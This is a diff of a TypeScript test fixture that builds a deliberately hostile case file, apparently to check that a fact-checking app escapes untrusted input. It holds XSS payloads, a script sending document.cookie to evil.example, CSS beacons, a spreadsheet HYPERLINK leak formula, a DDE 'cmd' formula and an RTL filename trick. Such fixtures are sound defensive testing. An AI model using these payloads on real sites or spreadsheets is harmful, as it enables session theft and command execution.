@@ -11,7 +11,8 @@ import { checkedInDraft2, secondDraftCase } from './fixture'
 export const SCRIPT = '<script>alert("x")</script>'
 const IMG = '<img src=x onerror=alert(1)>'
 const STYLE_BREAK = '</style><script>document.location="https://evil.example/"+document.cookie</script>'
-const CSS = 'x{background:url(https://evil.example/beacon.png);width:expression(alert(1))} @import url(https://evil.example/x.css);'
+const CSS =
+  'x{background:url(https://evil.example/beacon.png);width:expression(alert(1))} @import url(https://evil.example/x.css);'
 const RTL = 'invoice\u202Egpj.exe was attached'
 
 export function hostileCase(): CaseFile {
@@ -20,7 +21,12 @@ export function hostileCase(): CaseFile {
   const p3 = `“${RTL}, and <a href="javascript:alert(1)">click</a>,” wrote <b onmouseover=alert(1)>Alex</b>.`
   const p4 = `=HYPERLINK("https://evil.example/?leak="&A1,"Click") ${CSS} cost 40 million.`
   const article = articleOf(
-    { author: '"><svg onload=alert(1)>', date: '2024-02-01', url: 'javascript:alert(1)', 'review-url': 'https://evil.example/" onclick="x' },
+    {
+      author: '"><svg onload=alert(1)>',
+      date: '2024-02-01',
+      url: 'javascript:alert(1)',
+      'review-url': 'https://evil.example/" onclick="x'
+    },
     title(`Hostile ${SCRIPT} headline`),
     standfirst(`<iframe src="https://evil.example/"></iframe> standfirst`),
     ...[p1, p2, p3, p4].map(p)
@@ -46,12 +52,26 @@ export function hostileCase(): CaseFile {
     source('s3', {
       kind: 'person',
       title: 'Whistleblower',
-      passage: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-      person: { name: '<script>x</script>', role: 'onerror=alert(1)', contact: 'secret@example.org', reachedAt: '2024-02-02T10:00:00.000Z', channel: '<style>*{display:none}</style>', confirmed: '-2+3', onRecord: true }
+      passage: "@SUM(1+1)*cmd|' /C calc'!A0",
+      person: {
+        name: '<script>x</script>',
+        role: 'onerror=alert(1)',
+        contact: 'secret@example.org',
+        reachedAt: '2024-02-02T10:00:00.000Z',
+        channel: '<style>*{display:none}</style>',
+        confirmed: '-2+3',
+        onRecord: true
+      }
     })
   ]
   const statuses = [
-    { id: 'unchecked', label: `Unchecked ${IMG}`, color: 'red;background:url(https://evil.example/s.png)', description: '', resolved: false },
+    {
+      id: 'unchecked',
+      label: `Unchecked ${IMG}`,
+      color: 'red;background:url(https://evil.example/s.png)',
+      description: '',
+      resolved: false
+    },
     { id: 'verified', label: 'Verified', color: 'expression(alert(1))', description: '', resolved: true },
     { id: 'incorrect', label: '</style>Incorrect', color: '#d93025', description: '', resolved: true }
   ]
@@ -64,7 +84,17 @@ export function hostileCase(): CaseFile {
       verdictNote: `${SCRIPT} note`,
       notes: [{ id: 'n1', at: '2024-02-02T09:00:00.000Z', by: '<b>Eve</b>', text: '=1+1' }],
       checklist: { [SCRIPT]: { done: true, detail: IMG } },
-      queries: [{ id: 'q1', at: '2024-02-02T09:00:00.000Z', by: 'Eve', text: `${IMG}?`, resolvedAt: null, resolvedBy: null, answer: null }],
+      queries: [
+        {
+          id: 'q1',
+          at: '2024-02-02T09:00:00.000Z',
+          by: 'Eve',
+          text: `${IMG}?`,
+          resolvedAt: null,
+          resolvedBy: null,
+          answer: null
+        }
+      ],
       history: [statusChange('2024-02-02T09:00:00.000Z', `<img src=x onerror=alert(2)>`, 'unchecked', 'verified', 'd2')]
     }),
     claim(text, p2, {
@@ -91,7 +121,10 @@ export function hostileCase(): CaseFile {
   ]
   const hostile = secondDraftCase(article, `${text}\n\nold`, items, sources, 'case-hostile')
   hostile.statuses = statuses
-  hostile.ratingMap = [{ status: 'verified', ratingValue: 5, alternateName: `True ${SCRIPT}` }, { status: 'incorrect', ratingValue: 1, alternateName: 'False' }]
+  hostile.ratingMap = [
+    { status: 'verified', ratingValue: 5, alternateName: `True ${SCRIPT}` },
+    { status: 'incorrect', ratingValue: 1, alternateName: 'False' }
+  ]
   hostile.drafts[1].fileName = `${SCRIPT}.html`
   return hostile
 }
